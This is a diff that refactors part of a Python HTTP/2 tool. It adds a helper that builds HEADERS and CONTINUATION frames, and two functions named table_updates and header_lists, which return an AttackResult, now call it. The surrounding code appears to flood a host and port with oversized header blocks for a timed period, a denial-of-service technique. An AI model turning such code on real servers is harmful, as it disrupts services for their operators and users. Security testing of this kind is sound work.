@@ -97,6 +97,17 @@ def frame(kind: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
     return struct.pack(">IBI", (len(payload) << 8) | kind, flags, sid) + payload
 
 
+def header_frames(sid: int, block: bytes) -> bytes:
+    """A header block as HEADERS and CONTINUATIONs of the default maximum frame size."""
+    if len(block) <= 16_384:
+        return frame(HEADERS, END_HEADERS, sid, block)
+    data = frame(HEADERS, 0, sid, block[:16_384])
+    for i in range(16_384, len(block), 16_384):
+        last = i + 16_384 >= len(block)
+        data += frame(CONTINUATION, END_HEADERS if last else 0, sid, block[i : i + 16_384])
+    return data
+
+
 def grpc_message(message: bytes) -> bytes:
     return b"\x00" + struct.pack(">I", len(message)) + message
 
@@ -294,11 +305,7 @@ def table_updates(host: str, port: int, seconds: float) -> AttackResult:
     while time.monotonic() - started < seconds:
         sid = a.next_sid
         a.next_sid += 2
-        data = frame(HEADERS, 0, sid, block[:16_384])
-        chunks = range(16_384, len(block), 16_384)
-        for i in chunks:
-            last = i + 16_384 >= len(block)
-            data += frame(CONTINUATION, END_HEADERS if last else 0, sid, block[i : i + 16_384])
+        data = header_frames(sid, block)
         a.result.units += 1
         if not a.send(data):
             break
@@ -323,11 +330,7 @@ def header_lists(host: str, port: int, seconds: float, connections: int = 8) -> 
                 block = a.call_headers(RANGE) + a.encoder.encode(fields)
                 sid = a.next_sid
                 a.next_sid += 2
-                data = frame(HEADERS, 0, sid, block[:16_384])
-                for i in range(16_384, len(block), 16_384):
-                    last = i + 16_384 >= len(block)
-                    flags = END_HEADERS if last else 0
-                    data += frame(CONTINUATION, flags, sid, block[i : i + 16_384])
+                data = header_frames(sid, block)
                 result.units += 1
                 if not a.send(data):
                     attackers.remove(a)
